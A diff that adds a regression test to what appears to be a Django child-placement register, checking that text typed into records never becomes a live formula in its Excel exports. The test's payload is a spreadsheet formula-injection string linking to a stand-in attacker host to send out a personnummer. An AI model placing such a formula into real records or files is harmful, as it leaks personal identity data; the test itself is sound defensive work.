@@ -4,6 +4,10 @@ Each test failed on the code before its fix."""
 
 from __future__ import annotations
 
+import html
+import io
+import re
+import zipfile
 from datetime import date, timedelta
 
 import pytest
@@ -151,3 +155,42 @@ def test_a_school_chosen_by_a_superscript_digit_is_not_a_500(world: World) -> No
     data = {"school": "²", "school_search": "Hemlig", "first_school_day": TODAY.isoformat()}
     assert client.post(url, data).status_code == 200
     assert client.post(url, data | {"school": "١"}).status_code != 500  # an Arabic-Indic 1 is a 1
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&B1,"Öppna")'
+
+
+def _formulas(workbook: bytes) -> list[str]:
+    """The formulas of every sheet: a cell Excel would compute, not show."""
+    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        return [
+            formula for name in sheets for formula in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
+        ]
+
+
+def test_text_typed_into_a_record_is_never_a_formula_in_an_export(world: World) -> None:
+    """xlsxwriter writes a string that starts with "=" as a formula: a name, a plan or a
+    child's own answer became a live formula (a link that sends the row's personnummer
+    away) in the breach list's export and the register extract."""
+    case_worker = world.users["case_worker"]
+    child = register(TEST_NUMBERS[4], "Dana", "farsta", case_worker)
+    Child.objects.filter(pk=child.pk).update(last_name=FORMULA)  # as typed on the form or imported
+    place(child, "hvb", "farsta", TODAY - timedelta(days=20), case_worker, school_change=True)
+    followup.record_follow_up(
+        actor=case_worker,
+        child=child,
+        via="test",
+        data=followup.FollowUpData(kind="overvagande", date=TODAY, plan=FORMULA),
+    )
+    breaches = _client(world, "unit_manager").get(reverse("register:school_start_breaches_export"))
+    assert breaches.status_code == 200
+    assert f"{FORMULA}, Dana" in _shared_strings(breaches.content)
+    assert _formulas(breaches.content) == []
+    taken = extract.take_extract(case_worker, child.pk, via="test")
+    assert _formulas(extract.to_xlsx(taken)) == []
+
+
+def _shared_strings(workbook: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+        return html.unescape(archive.read("xl/sharedStrings.xml").decode())
